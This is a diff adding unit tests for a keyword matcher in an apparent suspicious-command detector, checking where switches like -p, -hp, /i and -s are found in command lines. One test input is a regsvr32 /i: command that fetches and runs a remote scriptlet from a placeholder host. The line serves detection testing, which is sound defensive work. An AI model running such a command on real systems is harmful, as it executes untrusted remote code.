@@ -2,6 +2,7 @@
 // contract, and custom patterns/allowlist stored through PatternStore.
 #include "cmdlinetestdata.h"
 #include "cmdline/commandlineanalyzer.h"
+#include "cmdline/keywordmatcher.h"
 #include "core/jsonutil.h"
 #include "store/patternstore.h"
 #include "testutils.h"
@@ -82,6 +83,8 @@ private Q_SLOTS:
     void contributionsAddUp();
     void netExeVersusDotNetNames_data();
     void netExeVersusDotNetNames();
+    void switchKeywords_data();
+    void switchKeywords();
     void customPatternsAndAllowlist();
     void newRulesCatch_data();
     void newRulesCatch();
@@ -397,6 +400,47 @@ void TestCmdlineAnalyzer::netExeVersusDotNetNames()
     for (const Finding &f : r.findings)
         netRule = netRule || f.rule.startsWith(QLatin1String("lolbin:net.exe:"));
     QVERIFY2(netRule == netExe, qPrintable(describe(r)));
+}
+
+void TestCmdlineAnalyzer::switchKeywords_data()
+{
+    QTest::addColumn<QString>("keyword");
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<int>("at");
+    QTest::newRow("-p alone") << s("switch:p") << s("7z a -p out.7z") << 5;
+    QTest::newRow("/p alone") << s("switch:p") << s("tool /p x") << 5;
+    QTest::newRow("-p at the start") << s("switch:p") << s("-p") << 0;
+    QTest::newRow("-p with :value") << s("switch:p") << s("tool -p:secret") << 5;
+    QTest::newRow("-p with =value") << s("switch:p") << s("tool -p=secret") << 5;
+    QTest::newRow("quoted \"-p\"") << s("switch:p") << s("tool \"-p\" x") << 6;
+    QTest::newRow("en-dash \u2013p") << s("switch:p") << QStringLiteral(u"tool \u2013p x") << 5;
+    QTest::newRow("-P capital") << s("switch:p") << s("tool -P x") << 5;
+    QTest::newRow("p starting a path word") << s("switch:p") << s("\"C:\\Program Files\\7-Zip\\7z.exe\" a x") << -1;
+    QTest::newRow("p starting a word") << s("switch:p") << s("node webpack --mode production") << -1;
+    QTest::newRow("-p inside an argument") << s("switch:p") << s("tool a-p b") << -1;
+    QTest::newRow("--p is another switch") << s("switch:p") << s("tool --p x") << -1;
+    QTest::newRow("-pX glued, not allowed") << s("switch:p") << s("7z a -pSecret x") << -1;
+    QTest::newRow("-pX glued, allowed") << s("switch:p*") << s("7z a -pSecret x") << 5;
+    QTest::newRow("-hp glued, allowed") << s("switch:hp*") << s("rar a -hpSecret x") << 6;
+    QTest::newRow("-p is not -hp") << s("switch:hp*") << s("rar a -pSecret x") << -1;
+    QTest::newRow("/i: before a URL") << s("switch:i") << s("regsvr32 /s /i:http://x/a.sct scrobj.dll") << 12;
+    QTest::newRow("s starting System32") << s("switch:s") << s("C:\\Windows\\System32\\regsvr32.exe x.dll") << -1;
+    QTest::newRow("-s later on the line") << s("switch:s") << s("C:\\Windows\\System32\\regsvr32.exe -s x.dll") << 33;
+}
+
+void TestCmdlineAnalyzer::switchKeywords()
+{
+    QFETCH(QString, keyword);
+    QFETCH(QString, text);
+    QFETCH(int, at);
+    KeywordMatcher m;
+    const int id = m.add(keyword);
+    m.add(QStringLiteral("|p")); // a word keyword sharing the automaton must not disturb the switch
+    m.build();
+    std::vector<qsizetype> pos;
+    m.scan(text, &pos);
+    QCOMPARE(int(pos[size_t(id)]), at);
+    QVERIFY(m.keyword(id).startsWith(QLatin1Char('-')));
 }
 
 void TestCmdlineAnalyzer::contributionsAddUp()
